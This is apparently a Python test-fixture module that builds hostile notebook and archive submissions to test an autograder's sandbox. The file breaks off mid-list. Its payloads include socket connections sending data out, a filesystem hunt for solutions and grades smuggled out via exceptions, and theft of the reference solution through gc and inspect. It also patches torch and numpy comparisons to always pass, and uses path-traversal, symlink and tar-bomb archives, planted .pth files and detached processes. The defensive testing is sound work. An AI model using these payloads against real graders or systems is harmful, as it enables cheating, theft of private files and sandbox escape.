"""Hostile and broken submissions, for tests/test_hostile.py (this module holds no tests).

Every code-level case is built the way a student would make it: the release handout with its stubs filled
(tests/corpus.py: parts not given get the master's solution), then edited like a notebook is edited, a
method changed, a cell added, copied, broken or stripped of its metadata. The archive-level cases are
the files a student could upload instead of CollectSubmission.sh's tarball. `write_corpus` writes them all
into one folder, which the tests grade in one batch through the real command line and the real sandbox.

Each case names its row key in grades.csv; what each must come to is asserted in tests/test_hostile.py.
Student IDs are 2098-NNNNN (tests/corpus.py uses 2099-), numbered roughly by expected grading cost, most
expensive first: the batch hands files to its workers in name order, so the slow ones start early.
"""
from __future__ import annotations

import gzip
import io
import json
import tarfile
import textwrap
import zipfile
from dataclasses import dataclass
from pathlib import Path

from corpus import BUGS, CORRECT, GRADE_IDS, MASTER, NOTEBOOK, RELEASE, _fill_stubs, _load, _part_cell, _set_source, \
    _solution_chunks, _source, fill_handout, reference_answers

ID = "2098-{:05d}"
DETERMINISM_COPIES = 20
BOMB_BYTES = 300 * 2**20  # far past unpack's 200 MB budget; ~300 KB once gzipped


@dataclass(frozen=True)
class Case:
    name: str
    key: str        # the row in grades.csv and the folder of its results.json
    filename: str   # as uploaded
    what: str       # one line for the report's table


def _c(text):
    return textwrap.dedent(text).strip("\n")


# --------------------------------------------------------------------------- notebook editing

def cell_text(cell):
    return _source(cell)


def append_to_first_code_cell(notebook, text):
    """The student's own first cell (imports, Colab setup): not a part's cell, not locked."""
    first = next(c for c in notebook["cells"] if c.get("cell_type") == "code")
    _set_source(first, cell_text(first) + "\n" + text + "\n")
    return notebook


def edit_part(notebook, part, old, new, count=1):
    """Replace text in a part's own cell (the grade_id cell), as a student edits the cell."""
    cell = _part_cell(notebook, part)
    text = cell_text(cell)
    assert text.count(old) == count, f"{part}: {old!r} found {text.count(old)} times"
    _set_source(cell, text.replace(old, new))
    return notebook


def edit_locked(notebook, grade_id, old, new):
    cell = next(c for c in notebook["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id)
    text = cell_text(cell)
    assert text.count(old) == 1, f"{grade_id}: {old!r}"
    _set_source(cell, text.replace(old, new))
    return notebook


def code_cell(source, execution_count=None):
    cell = {"cell_type": "code", "execution_count": execution_count, "metadata": {}, "outputs": [], "source": []}
    _set_source(cell, source)
    return cell


def index_of_part(notebook, part):
    cell = _part_cell(notebook, part)
    return next(i for i, c in enumerate(notebook["cells"]) if c is cell)


def insert_after(notebook, index, source):
    notebook["cells"].insert(index + 1, code_cell(source))
    return index + 1


def renumber(notebook):
    """Execution counts 1, 2, 3, ... in cell order: a notebook run top to bottom."""
    count = 0
    for cell in notebook["cells"]:
        if cell.get("cell_type") == "code":
            count += 1
            cell["execution_count"] = count
    return notebook


def strip_nbgrader(notebook):
    """What Colab's "download .ipynb" can do to a notebook: the nbgrader metadata is gone."""
    for cell in notebook["cells"]:
        for key in ("nbgrader", "deletable", "editable"):
            cell.get("metadata", {}).pop(key, None)
    return notebook


def part_cell_filled(part, chunks):
    """The release's cell of `part` with its stubs filled by `chunks` (a stub left as is: chunks=None)."""
    text = cell_text(_part_cell(_load(RELEASE), part))
    return text if chunks is None else _fill_stubs(text, chunks, part)


def dumps(notebook):
    # ensure_ascii: a lone surrogate in a cell survives as the escape \udcff, as Jupyter would write it.
    return (json.dumps(notebook, indent=1, ensure_ascii=True) + "\n").encode("ascii")


def pe_only_notebook():
    """PositionalEncoding done, the other parts' cells emptied: 15 points, graded about as fast as anything
    can be (a missing class fails its checks at once, and gives no bug to name, which would cost the
    grading process a warm-up of its bug library)."""
    notebook = fill_handout({})
    for part in ("MultiHeadAttention", "EncoderLayer", "DecoderLayer"):
        _set_source(_part_cell(notebook, part), "# not done yet\n")
    return notebook


REF = reference_answers()
_CORRECT = dict(CORRECT)
_BUGS = {name: answers for name, _, answers in BUGS}

# Parts written differently from the master, so the master's own lines can only reach a results.json if
# the grader leaks them (the leak checks look for master lines the submission does not contain).
NOT_THE_MASTER = {
    "PositionalEncoding": _CORRECT["pe_exp_log"]["PositionalEncoding"],
    "MultiHeadAttention": _CORRECT["einsum"]["MultiHeadAttention"],
    "EncoderLayer": _CORRECT["renamed_and_reordered"]["EncoderLayer"],
    "DecoderLayer": _CORRECT["renamed_and_reordered"]["DecoderLayer"],
}

MHA_FORWARD = "    def forward(self, X_Q, X_K, X_V, mask=None):\n"
MHA_SPLIT = "    def split(self, X):\n"
MHA_COMBINE = "    def combine(self, X):\n"
PE_FORWARD = "    def forward(self, X):\n        return X + self.PE[:, :X.size(1)]"


# --------------------------------------------------------------------------- code-level cases

def hang_encoder_memory_pe(ctx):
    """An endless loop in EncoderLayer.forward and a 12 GB table in PositionalEncoding.__init__.

    Together on purpose: Training builds the PositionalEncoding first, so it fails on memory at once
    instead of waiting out its own 90 s time limit on the loop (measured separately for the report)."""
    return fill_handout({
        "PositionalEncoding": [_c("""
            cache = torch.empty(3 * 2**30)  # "every angle we could ever need": 12 GB of float32
        """) + "\n" + REF["PositionalEncoding"][0]],
        "EncoderLayer": [REF["EncoderLayer"][0], _c("""
            steps = 0
            while True:  # "until the residual stream converges"; it never does
                steps += 1
            output = X
        """)],
    })


def network(ctx):
    """Connections to a listener the test opened on the host, to public addresses and to DNS, at class
    definition time and again in MultiHeadAttention.__init__; the outcomes are printed (the TA's log)."""
    notebook = fill_handout({"MultiHeadAttention": [REF["MultiHeadAttention"][0] + '\n_phone_home("init")',
                                                    REF["MultiHeadAttention"][1]]})
    helper = _c(f"""
        import socket

        _PHONED = []


        def _phone_home(where, port={ctx["port"]}):
            if where in _PHONED:  # once from each place is enough to make the point
                return
            _PHONED.append(where)
            attempts = [("tcp-local", socket.SOCK_STREAM, ("127.0.0.1", port)),
                        ("udp-local", socket.SOCK_DGRAM, ("127.0.0.1", port)),
                        ("tcp-public", socket.SOCK_STREAM, ("1.1.1.1", 80)),
                        ("tcp-public-dns", socket.SOCK_STREAM, ("8.8.8.8", 53))]
            for label, kind, address in attempts:
                try:
                    with socket.socket(socket.AF_INET, kind) as s:
                        s.settimeout(2)
                        s.connect(address)
                        s.sendall(b"HOSTILE-PAYLOAD from the sandbox")
                        outcome = "sent"
                except OSError as exc:
                    outcome = type(exc).__name__
                print(f"network {{where}} {{label}}: {{outcome}}")
            try:
                socket.getaddrinfo("example.com", 80)
                print(f"network {{where}} dns: resolved")
            except OSError as exc:
                print(f"network {{where}} dns: {{type(exc).__name__}}")


        class _AtDefinition:
            _phone_home("definition")
    """)
    insert_after(notebook, index_of_part(notebook, "MultiHeadAttention") - 1, helper)
    return renumber(notebook)


def print_flood(ctx):
    """50 MB printed each time a PositionalEncoding is built, plus raw writes to descriptors 1 and 2."""
    return fill_handout({"PositionalEncoding": [_c("""
        import os, sys
        chunk = "flood " * 174763  # ~1 MiB
        for _ in range(50):
            print(chunk)
        os.write(1, b"raw stdout flood " * 65536)
        os.write(2, b"raw stderr flood " * 65536)
        sys.__stdout__.write(chunk)
    """) + "\n" + REF["PositionalEncoding"][0]]})


def forbidden_modules(ctx):
    """torch's own attention in three parts; none of it changes what the parts compute.

    MultiHeadAttention registers an nn.MultiheadAttention it never calls; EncoderLayer builds an
    nn.TransformerEncoderLayer in a local; DecoderLayer keeps `MA`, imported in the first cell (not its own)
    as `from torch.nn import MultiheadAttention as MA`. So every check would pass but for the rule."""
    notebook = fill_handout({
        "MultiHeadAttention": [REF["MultiHeadAttention"][0]
                               + "\nself.reference_attention = nn.MultiheadAttention(dim, head_num, batch_first=True)",
                               REF["MultiHeadAttention"][1]],
        "EncoderLayer": [REF["EncoderLayer"][0]
                         + "\nlibrary_layer = nn.TransformerEncoderLayer(dim, head_num, FFN_dim, dropout)  # tried it",
                         REF["EncoderLayer"][1]],
        "DecoderLayer": [REF["DecoderLayer"][0] + "\nself.blueprint = MA  # torch's, to compare with mine",
                         REF["DecoderLayer"][1]],
    })
    return append_to_first_code_cell(notebook, "from torch.nn import MultiheadAttention as MA")


def forbidden_sdpa(ctx):
    """scaled_dot_product is torch's fused attention: right answers, by the wrong means."""
    return fill_handout({"MultiHeadAttention": [REF["MultiHeadAttention"][0], _c("""
        heads = F.scaled_dot_product_attention(Q, K, V, attn_mask=mask)
    """)]})


def locked_edits_out_of_order(ctx):
    """Two DO NOT CHANGE cells edited (FFN with GELU; generate_mask inverted, which would make every
    attention row all -inf and the loss NaN) and cells run out of order."""
    notebook = fill_handout({})
    edit_locked(notebook, "ffn", "nn.ReLU()", "nn.GELU()")
    edit_locked(notebook, "transformer", "src_mask = (src != 0)[:, None, None, :]",
                "src_mask = (src == 0)[:, None, None, :]")
    counts = [c for c in notebook["cells"] if c.get("cell_type") == "code"]
    for cell, count in zip(counts, [3, 1, 2] + list(range(4, len(counts) + 1))):
        cell["execution_count"] = count
    return notebook


def colab_stripped_duplicate(ctx):
    """nbgrader metadata stripped (Colab), and MultiHeadAttention defined twice: a broken one (no
    scaling) in an extra cell above, the right one in the part's own cell below."""
    notebook = fill_handout({})
    broken = part_cell_filled("MultiHeadAttention", _BUGS["mha_not_scaled"]["MultiHeadAttention"])
    notebook["cells"].insert(index_of_part(notebook, "MultiHeadAttention"), code_cell(broken))
    return renumber(strip_nbgrader(notebook))


MENTIONS = _c("""
    # Not used: nn.MultiheadAttention, F.scaled_dot_product_attention, nn.TransformerEncoderLayer.
    NOTE = "torch.nn.MultiheadAttention would have been easier; F.scaled_dot_product_attention too"
""")


def toplevel_heavy_mentions(ctx):
    """Top-level cells that would train for hours, wait for input(), sleep 1000 s and loop forever; and
    forbidden names only in comments and strings (inside the graded classes too)."""
    notebook = fill_handout({
        "MultiHeadAttention": [REF["MultiHeadAttention"][0],
                               "# (F.scaled_dot_product_attention would do all of this, but it is not allowed)\n"
                               "why = 'nn.MultiheadAttention is forbidden, so: by hand'\n"
                               + REF["MultiHeadAttention"][1]],
        "EncoderLayer": [REF["EncoderLayer"][0],
                         '"""Not nn.TransformerEncoderLayer: my own."""\n' + REF["EncoderLayer"][1]],
    })
    heavy = [
        MENTIONS,
        _c("""
            # my own full-size run, hours on a CPU
            big = Transformer(5000, 5000, 512, 4, 3, 2048, 100, 0.1)
            opt = optim.Adam(big.parameters(), lr=1e-4)
            for epoch in range(10**9):
                opt.zero_grad()
                loss = big(torch.randint(1, 5000, (64, 100)), torch.randint(1, 5000, (64, 99))).sum()
                loss.backward()
                opt.step()
        """),
        'student_name = input("Your name, for the plot title: ")',
        "import time\ntime.sleep(1000)",
        "while True:\n    pass",
    ]
    index = len(notebook["cells"]) - 1
    for source in heavy:
        index = insert_after(notebook, index, source)
    return renumber(notebook)


def os_exit(ctx):
    notebook = fill_handout({})
    return edit_part(notebook, "MultiHeadAttention", MHA_FORWARD,
                     MHA_FORWARD + '        import os\n        os._exit(3)  # "done here"\n')


def segfault(ctx):
    notebook = fill_handout({})
    return edit_part(notebook, "MultiHeadAttention", MHA_COMBINE,
                     MHA_COMBINE + "        import ctypes\n        ctypes.string_at(0)  # peek at address 0\n")


def kill_self(ctx):
    notebook = fill_handout({})
    return edit_part(notebook, "MultiHeadAttention", MHA_SPLIT,
                     MHA_SPLIT + "        import os, signal\n        os.kill(os.getpid(), signal.SIGKILL)\n")


HUNT = _c(r'''
    import os, re, time

    _WANTED_NAMES = {"Assignment2-1_Transformer_from_scratch.ipynb", "grades.csv", "results.json", "feedback.md",
                     "feedback.html", "report.html", "rubric.py", "bug_variants.py", "fingerprints.py",
                     "submission.ipynb", "test_multi_head_attention.py"}


    def _hunt():
        """Every path that would give away the master, the hidden checks, grades or another student's work."""
        other_student = re.compile(r"^\d{4}-\d{5}.*\.(ipynb|tar|tgz|tar\.gz)$")
        # Public library trees are walked past, to keep a walk short; the repository, /tmp and the outputs
        # would be elsewhere (/work, /tmp, /root, /home ...), and all of that is walked.
        library = re.compile(r"(^/(proc|sys|dev)$|/(site-packages|dist-packages)$"
                             r"|^/usr/(share|lib|lib32|lib64|libx32|include|src)$|/lib/python3\.\d+$)")
        found, seen, started = [], 0, time.monotonic()
        for root, dirs, files in os.walk("/"):
            dirs[:] = [d for d in dirs if not library.search(os.path.join(root, d))]
            seen += len(files) + len(dirs)
            if root.rstrip("/").endswith(("autograder/checks", "/source/Assignment2-1", "/release/Assignment2-1")):
                found.append(root)
            for name in files:
                path = os.path.join(root, name)
                if name in _WANTED_NAMES or other_student.match(name):
                    found.append(path)
                elif name.endswith(".ipynb"):
                    try:
                        with open(path, "rb") as handle:
                            text = handle.read(4 << 20)
                    except OSError:
                        continue
                    if b"BEGIN SOLUTION" in text and b"MultiHeadAttention" in text:
                        found.append(path)
        for pid in os.listdir("/proc"):
            if pid.isdigit() and int(pid) != os.getpid():
                for link in ("cwd", "root"):
                    try:
                        found.append(f"/proc/{pid}/{link} -> {os.readlink(f'/proc/{pid}/{link}')}")
                    except OSError:
                        pass
        return found, seen, round(time.monotonic() - started, 2)
''')


def fs_walker(ctx):
    """PositionalEncoding hunts the filesystem for the master, the checks, grades and other students'
    files when its class is defined and again in forward, and smuggles the list out in an exception."""
    notebook = fill_handout(NOT_THE_MASTER)
    cell = _part_cell(notebook, "PositionalEncoding")
    text = cell_text(cell).replace("class PositionalEncoding(nn.Module):\n",
                                    "class PositionalEncoding(nn.Module):\n"
                                    "    found_at_definition = _hunt()\n")
    text = text.replace(PE_FORWARD, _c('''
        def forward(self, X):
            found, seen, seconds = _hunt()
            raise RuntimeError(f"SMUGGLE at_definition={self.found_at_definition[0]!r} in_forward={found!r} "
                               f"entries_seen={seen} in {seconds} s")
    ''').replace("\n", "\n    ").join(["    ", ""]))
    assert "_hunt()" in text and "SMUGGLE" in text
    _set_source(cell, HUNT + "\n\n\n" + text)
    return notebook


STEAL = _c("""
    import gc
    found = [cls for cls in gc.get_objects() if isinstance(cls, type) and cls.__name__ == "MultiHeadAttention"]
    stolen = [cls for cls in found if getattr(cls, "scaled_dot_product", None) is not None
              and cls.scaled_dot_product.__code__.co_filename.startswith("<reference")]
    if stolen:
        heads = stolen[0].scaled_dot_product(self, Q, K, V, mask)
    else:  # the layers' attention stand-in, asked for the whole attention with identity projections
        helper = [cls for cls in found if "<locals>" in cls.__qualname__][0](self.dim, self.head_num)
        with torch.no_grad():
            for linear in (helper.W_q, helper.W_k, helper.W_v, helper.W_o):
                linear.weight.copy_(torch.eye(self.dim))
                linear.bias.zero_()
        flat = lambda T: T.transpose(1, 2).reshape(T.size(0), T.size(2), self.dim)
        heads = self.split(helper(flat(Q), flat(K), flat(V), mask))
""")


def reference_thief(ctx):
    """Goes after the reference MultiHeadAttention a worker once held for grading the layers: PositionalEncoding
    reads its source (linecache, inspect.getsource) and raises it; scaled_dot_product finds the class with gc
    and calls it instead of computing anything, or else asks the layers' attention stand-in, which the judge
    answers only during layer checks. None of its own code is the master's."""
    notebook = fill_handout({**NOT_THE_MASTER, "MultiHeadAttention": [NOT_THE_MASTER["MultiHeadAttention"][0], STEAL]})
    return edit_part(notebook, "PositionalEncoding", PE_FORWARD, _c('''
        def forward(self, X):
            import gc, inspect, linecache
            keys = ("@", "softmax", "masked_fill", "norm", "Linear(")
            leaked = []
            for name in list(linecache.cache):
                if name.startswith("<") and not name.startswith("<cell"):
                    leaked.append((name, [line.strip() for line in linecache.getlines(name) if any(k in line for k in keys)]))
            for obj in gc.get_objects():
                if isinstance(obj, type) and obj.__name__ == "MultiHeadAttention":
                    method = getattr(obj, "scaled_dot_product", None)
                    if method is None or method.__code__.co_filename.startswith("<cell"):
                        continue
                    try:
                        leaked.append(("getsource", inspect.getsource(method)))
                    except (OSError, TypeError) as exc:
                        leaked.append(("getsource", type(exc).__name__))
            raise RuntimeError("LEAK " + repr(leaked))
    ''').replace("\n", "\n    ").join(["    ", ""]))


def sys_exit_surrogates(ctx):
    """scaled_dot_product prints and calls sys.exit with text holding a lone surrogate (fine in a Python
    str, not in UTF-8); and a lone surrogate in the JSON itself, in a comment of EncoderLayer's cell and
    of the locked setup cell, which no parser can take."""
    notebook = fill_handout({"MultiHeadAttention": [REF["MultiHeadAttention"][0], _c(r'''
        print("leaving now \udcff")
        import sys
        sys.exit("student says bye \udcff")
    ''')]})
    cell = _part_cell(notebook, "EncoderLayer")
    _set_source(cell, cell_text(cell) + "\n# caf\udcff\n")
    edit_locked(notebook, "setup", "seed = 42", "seed = 42  # caf\udcff")
    return notebook


def determinism_base():
    """A numeric bug in MultiHeadAttention (mask applied after the softmax) and a syntax error in
    DecoderLayer's cell (so Training fails at once): graded DETERMINISM_COPIES times; the syntax error
    case, and the base the patched variants are compared with."""
    notebook = fill_handout({"MultiHeadAttention": _BUGS["mha_mask_after_softmax"]["MultiHeadAttention"]})
    return edit_part(notebook, "DecoderLayer", "    def forward(self, X, enc_output, cross_attn_mask, self_attn_mask):",
                     "    def forward(self, X, enc_output, cross_attn_mask, self_attn_mask)  # colon forgotten")


PATCHES = _c("""
    torch.allclose = always_true
    torch.equal = always_true
    torch.testing.assert_close = always_passes
    torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
    np.allclose = always_true
    np.array_equal = always_true
    np.testing.assert_allclose = always_passes
    builtins.abs = lambda value: 0
""")


def patch_toplevel(ctx):
    """determinism_base plus a top-level cell that makes every comparison the grader might use always true."""
    notebook = determinism_base()
    insert_after(notebook, index_of_part(notebook, "MultiHeadAttention"), "\n".join([
        "import builtins\nimport numpy as np\n\n",
        "def always_true(*args, **kwargs):\n    return True\n\n",
        "def always_passes(*args, **kwargs):\n    return None\n\n",
        PATCHES, "builtins.isinstance = always_true"]))
    return renumber(notebook)


def patch_classbody(ctx):
    """The same patches in a class body, which does run in the worker when the cell is loaded (isinstance
    left alone: always-true, it breaks torch itself)."""
    notebook = determinism_base()
    body = "\n".join(["def always_true(*args, **kwargs):\n    return True\n",
                      "def always_passes(*args, **kwargs):\n    return None\n", PATCHES,
                      'print("comparison functions patched")'])
    insert_after(notebook, index_of_part(notebook, "MultiHeadAttention"),
                 "import builtins\nimport numpy as np\n\n\nclass _Install:\n" + textwrap.indent(body, "    "))
    return renumber(notebook)


def duplicate_grade_id(ctx):
    """The part's own cell left as the stub, and the student's MultiHeadAttention in a new cell below it."""
    notebook = fill_handout({})
    index = index_of_part(notebook, "MultiHeadAttention")
    correct = cell_text(notebook["cells"][index])
    _set_source(notebook["cells"][index], part_cell_filled("MultiHeadAttention", None))
    insert_after(notebook, index, correct)
    return renumber(notebook)


CODE_CASES = [  # (builder, what); the order gives the student IDs: most expensive to grade first
    (hang_encoder_memory_pe, "while True in EncoderLayer.forward + 12 GB torch.empty in PositionalEncoding.__init__"),
    (network, "TCP/UDP to a host listener, public IPs and DNS, at definition time and in __init__"),
    (print_flood, "50 MB printed per PositionalEncoding, raw writes to fds 1 and 2"),
    (forbidden_modules, "nn.MultiheadAttention (MHA), nn.TransformerEncoderLayer (Encoder), `MA` imported in cell 2 (Decoder)"),
    (forbidden_sdpa, "F.scaled_dot_product_attention in scaled_dot_product"),
    (locked_edits_out_of_order, "FFN cell -> GELU, generate_mask inverted, cells run out of order"),
    (colab_stripped_duplicate, "nbgrader metadata stripped; MHA defined twice (broken above, right below)"),
    (toplevel_heavy_mentions, "top-level training loop, input(), sleep(1000), while True; forbidden names in comments/strings"),
    (os_exit, "os._exit(3) in MultiHeadAttention.forward"),
    (segfault, "ctypes.string_at(0) in MultiHeadAttention.combine"),
    (kill_self, "os.kill(getpid(), SIGKILL) in MultiHeadAttention.split"),
    (fs_walker, "os.walk('/') at class definition and in forward, hunting master/checks/grades/other students"),
    (reference_thief, "reads the worker's reference MultiHeadAttention (linecache, inspect) and calls it via gc"),
    (sys_exit_surrogates, "sys.exit() in scaled_dot_product, printing lone surrogates; raw ones in two cells' JSON"),
    (patch_toplevel, "top-level cell: torch.allclose/equal/assert_close/Tensor.__eq__, numpy, abs, isinstance always true"),
    (patch_classbody, "the same patches in a class body (executed in the worker)"),
    (duplicate_grade_id, "MHA grade_id cell left as the stub, the solution in a new cell below"),
]


# --------------------------------------------------------------------------- archives

def _tar_bytes(members, mode="w:gz"):
    """members: (TarInfo, bytes or None)."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as tar:
        for info, data in members:
            if data is not None:
                info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return buffer.getvalue()


def _file(name, data):
    info = tarfile.TarInfo(name)
    info.mode, info.mtime = 0o644, 1_700_000_000
    return info, data


def _link(name, target, kind):
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mtime = kind, target, 1_700_000_000
    return info, None


class _Zeros(io.RawIOBase):
    """BOMB_BYTES of zeros, read in chunks: the bomb is built streamed, never held in memory."""

    def __init__(self, size):
        self.left = size

    def readable(self):
        return True

    def readinto(self, buffer):
        n = min(len(buffer), self.left)
        buffer[:n] = bytes(n)
        self.left -= n
        return n


def write_tar_bomb(path, notebook_bytes):
    with open(path, "wb") as raw, gzip.GzipFile(fileobj=raw, mode="wb", compresslevel=9, mtime=0) as gz, \
            tarfile.open(fileobj=gz, mode="w|") as tar:
        info = tarfile.TarInfo("padding.bin")
        info.size, info.mtime = BOMB_BYTES, 1_700_000_000
        tar.addfile(info, io.BufferedReader(_Zeros(BOMB_BYTES), 1 << 20))
        info, data = _file(NOTEBOOK, notebook_bytes)
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))


def _corrupt_gzip(data):
    """A real .tar.gz with a run of bytes in the middle of its deflate stream overwritten."""
    middle = len(data) // 2
    return data[:middle] + bytes(b ^ 0x5A for b in data[middle:middle + 64]) + data[middle + 64:]


def archive_cases(ctx):
    """(name, filename, key, bytes or a writer, what). Keys of files without a valid ID are row_key's."""
    partial = dumps(pe_only_notebook())
    token = ctx["token"]
    proper = _tar_bytes([_file(NOTEBOOK, partial)])
    zip_buffer = io.BytesIO()
    with zipfile.ZipFile(zip_buffer, "w") as archive:
        archive.writestr(NOTEBOOK, partial)
    nbformat3 = json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {},
                            "worksheets": [{"cells": [{"cell_type": "code", "input": "print(1)"}]}]}).encode()
    return [
        ("wrong_notebook_name", f"{ID.format(40)}.tar.gz", ID.format(40),
         _tar_bytes([_file("my_transformer.ipynb", partial)]), "notebook inside is my_transformer.ipynb"),
        ("several_candidates", f"{ID.format(41)}.tar.gz", ID.format(41),
         _tar_bytes([_file(".ipynb_checkpoints/Assignment2-1_Transformer_from_scratch-checkpoint.ipynb", b"{}"),
                     _file("Assignment2-1_old.ipynb", b"not even json"), _file(NOTEBOOK, partial)]),
         "the notebook, an old copy and a checkpoint"),
        ("bad_student_id", "final_submission.tar.gz", "unknown-final_submission.tar.gz", proper,
         "file name holds no student ID"),
        ("not_a_tar", f"{ID.format(42)}.tar.gz", ID.format(42), b"this is not an archive\n" * 20,
         "plain text named .tar.gz"),
        ("empty_tar", f"{ID.format(43)}.tar.gz", ID.format(43), _tar_bytes([]), "a tar.gz with no members"),
        ("corrupt_gzip", f"{ID.format(44)}.tar.gz", ID.format(44), _corrupt_gzip(proper),
         "64 bytes of the deflate stream overwritten"),
        ("not_json", f"{ID.format(45)}.ipynb", ID.format(45), b'{"cells": [ this is not JSON', "notebook that is not JSON"),
        ("nbformat3", f"{ID.format(46)}.ipynb", ID.format(46), nbformat3, "nbformat 3 notebook"),
        ("dotdot_member", f"{ID.format(47)}.tar.gz", ID.format(47),
         _tar_bytes([_file(f"../../escaped-{token}.txt", b"outside!"),
                     _file(f"../../escaped-{token}/{NOTEBOOK}", partial)]),
         "members named ../../escaped-*"),
        ("symlink_member", f"{ID.format(48)}.tar.gz", ID.format(48),
         _tar_bytes([_link(NOTEBOOK, str(MASTER), tarfile.SYMTYPE)]), "the notebook is a symlink to the master"),
        ("hardlink_member", f"{ID.format(49)}.tar.gz", ID.format(49),
         _tar_bytes([_link(NOTEBOOK, str(MASTER).lstrip("/"), tarfile.LNKTYPE)]),
         "the notebook is a hard link to the master's path"),
        ("tar_bomb", f"{ID.format(50)}.tar.gz", ID.format(50), lambda path: write_tar_bomb(path, partial),
         f"{BOMB_BYTES >> 20} MB of zeros before the notebook"),
        ("zip_disguised", f"{ID.format(51)}.tar.gz", ID.format(51), zip_buffer.getvalue(), "a zip named .tar.gz"),
        # "[/bold]" reaches the batch's summary table through the reason (it lists the members): rich markup.
        ("no_notebook", f"{ID.format(52)}.tar.gz", ID.format(52),
         _tar_bytes([_file("README.txt", b"see my notebook"), _file("[/bold]/notes.txt", b"x"),
                     _file("transformer.py", b"print(1)\n")]),
         "README.txt, a .py and a folder named [/bold] (rich markup), no notebook"),
        # On Linux a name is bytes: 0xff is no UTF-8 and reaches Python as the lone surrogate \udcff.
        ("undecodable_name", f"{ID.format(54)}-\udcff.ipynb", "unknown-2098-00054-_.ipynb", b"not a notebook",
         "file name with a byte that is not UTF-8 (and not JSON)"),
    ]


# --------------------------------------------------------------------------- the whole corpus

def write_corpus(directory, *, port, token):
    """Write every case into `directory`; returns {name: Case}. The notebooks of code cases are also
    returned through Case.filename so the tests can read back exactly what was graded."""
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    ctx = {"port": port, "token": token}
    cases = {}
    for number, (builder, what) in enumerate(CODE_CASES, start=1):
        key = ID.format(number)
        (directory / f"{key}.ipynb").write_bytes(dumps(builder(ctx)))
        cases[builder.__name__] = Case(builder.__name__, key, f"{key}.ipynb", what)
    base = dumps(determinism_base())
    for copy_number in range(DETERMINISM_COPIES):
        key = ID.format(100 + copy_number)
        (directory / f"{key}.ipynb").write_bytes(base)
        cases[f"determinism_{copy_number:02d}"] = Case(f"determinism_{copy_number:02d}", key, f"{key}.ipynb",
                                                      "mask after softmax + DecoderLayer syntax error")
    for name, filename, key, content, what in archive_cases(ctx):
        path = directory / filename
        if callable(content):
            content(path)
        else:
            path.write_bytes(content)
        cases[name] = Case(name, key, filename, what)
    return cases


def master_solution_lines():
    """Distinctive lines of the master's solutions (code only, comments dropped): any of them in a
    results.json or a feedback file that the submission did not contain itself is a leak."""
    master = _load(MASTER)
    lines = set()
    for part in GRADE_IDS:
        for chunk in _solution_chunks(_source(_part_cell(master, part))):
            for line in chunk.splitlines():
                code = line.split("  #")[0].strip()
                if any(key in code for key in ("@", "softmax", "norm", "masked_fill")):
                    lines.add(code)
    return sorted(lines)


def notebook_code_lines(data):
    """The stripped code lines of every cell of a notebook's bytes (none for anything that is not one)."""
    try:
        cells = json.loads(data)["cells"]
    except (ValueError, KeyError, TypeError, OSError):
        return set()
    lines = set()
    for cell in cells:
        if isinstance(cell, dict):
            for line in _source(cell).splitlines():
                lines.add(line.split("  #")[0].strip())
    return lines


# --------------------------------------------------------------------------- attacks on the cage itself

LEAVE_FILES = _c(r'''
    import os, sys


    def _leave_files():
        """Everything a worker could leave for the next one: modules and .pth files wherever Python looks,
        folders locked with chmod 0, and a directory chain 1200 deep (shutil.rmtree recurses on it)."""
        places = [p for p in sys.path if p] + [os.getcwd(), os.environ.get("TMPDIR", "/tmp"), "/tmp", "/dev/shm",
                                               os.path.expanduser("~")]
        planted = []
        for place in places:
            for name in ("matplotlib", "numpy", "math_tools"):
                try:
                    os.makedirs(os.path.join(place, name), exist_ok=True)
                    with open(os.path.join(place, name, "__init__.py"), "w") as handle:
                        handle.write("raise SystemExit('planted')\n")
                    planted.append(os.path.join(place, name))
                except OSError:
                    pass
            try:
                with open(os.path.join(place, "zz_planted.pth"), "w") as handle:
                    handle.write("import os; os._exit(70)\n")
                planted.append(place)
            except OSError:
                pass
        for place in places + [os.path.dirname(p) for p in places]:
            try:
                os.chmod(place, 0)
            except OSError:
                pass
        home = os.getcwd()
        try:
            for _ in range(1200):
                os.mkdir("deep")
                os.chdir("deep")
        except OSError:
            pass
        os.chdir(home)
        return planted
''')

LEAVE_PROCESSES = _c(r'''
    import ctypes, os, signal, subprocess, threading


    def _leave_processes():
        """SysV shared memory with a note in it, and as many detached sleepers as the process limit allows."""
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmat.restype = ctypes.c_void_p
        for key in range(0x5EED, 0x5EED + 4):
            segment = libc.shmget(key, 64 * 2**20, 0o1666)
            if segment >= 0:
                ctypes.memset(libc.shmat(segment, None, 0), 1, 64 * 2**20)
        started = 0
        for _ in range(200):
            try:
                subprocess.Popen(["sleep", "600"], start_new_session=True)
                started += 1
            except OSError:
                break
        return started
''')


def _prepend_to_part(notebook, part, helper, call):
    cell = _part_cell(notebook, part)
    header = f"class {part}(nn.Module):\n"
    text = cell_text(cell)
    assert header in text
    _set_source(cell, helper + "\n\n\n" + text.replace(header, header + f"    _left = {call}\n", 1))
    return notebook


def leave_files(ctx):
    return _prepend_to_part(fill_handout({}), "PositionalEncoding", LEAVE_FILES, "_leave_files()")


def leave_processes(ctx):
    return _prepend_to_part(fill_handout({}), "MultiHeadAttention", LEAVE_PROCESSES, "_leave_processes()")


def stop_reading(ctx):
    """The worker stops itself right after answering one check, so the judge's next request meets a process
    that reads nothing."""
    notebook = fill_handout({})
    return edit_part(notebook, "MultiHeadAttention", MHA_FORWARD, MHA_FORWARD + _c('''
        import os, signal, threading
        if X_Q.size(1) == 5 and X_K.size(1) == 7:
            threading.Timer(0.2, lambda: os.kill(os.getpid(), signal.SIGSTOP)).start()
    ''').replace("\n", "\n        ").join(["        ", "\n"]))


def huge_answer(ctx):
    """A PE buffer of 64 MB: an answer far larger than any check needs."""
    notebook = fill_handout({})
    return edit_part(notebook, "PositionalEncoding", PE_FORWARD,
                     PE_FORWARD + "\n\n    def named_buffers(self, *args, **kwargs):\n"
                     "        yield 'PE', torch.zeros(1, 2**24)")


CAGE_CASES = [
    (leave_files, "modules, .pth files, chmod 0 and a 1200-deep folder chain wherever the worker can write"),
